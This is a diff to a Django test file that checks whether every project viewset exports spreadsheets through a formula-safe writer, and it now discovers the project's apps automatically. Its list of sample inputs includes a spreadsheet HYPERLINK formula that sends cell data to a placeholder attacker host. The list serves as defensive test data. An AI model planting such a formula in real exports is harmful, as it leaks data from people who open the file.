@@ -3,8 +3,11 @@
 import csv
 import datetime
 import io
+from pathlib import Path
 
 import pytest
+from django.apps import apps
+from django.conf import settings
 from django.contrib.auth import get_user_model
 from django.urls import reverse
 from django.utils import timezone
@@ -18,7 +21,12 @@ from website.groups import EDITORS, MODERATORS, setup_groups
 from website.models import FormPage
 from website.spreadsheets import Column, SafeSpreadsheetExportMixin, csv_cell, csv_lines, safe_cell, write_xlsx
 
-PROJECT_APPS = ("website", "news", "guides", "funding", "directory", "members", "participation")
+# Every app of this repository (not Wagtail's or a library's): a new app's viewsets are checked without editing this file.
+PROJECT_APPS = tuple(
+    config.name
+    for config in apps.get_app_configs()
+    if Path(config.path).is_relative_to(settings.BASE_DIR) and ".venv" not in Path(config.path).parts
+)
 # Values a member or a visitor could type, each one a formula in a spreadsheet program.
 MALICIOUS = [
     '=HYPERLINK("http://rau.example/?d="&A1;"Clic")',
@@ -111,7 +119,7 @@ def test_every_project_viewset_exports_through_the_safe_writer(client, db):
         if view.view_initkwargs.get("list_export", view.view_class.list_export):  # no columns, no data
             exporting.append(type(viewset).__name__)
             assert issubclass(view.view_class, SafeSpreadsheetExportMixin), type(viewset).__name__
-    assert "OrganizationViewSet" in exporting
+    assert {"OrganizationViewSet", "ResponseViewSet"} <= set(exporting), exporting
     assert issubclass(FormPage().get_submissions_list_view_class(), SafeSpreadsheetExportMixin)
 
 
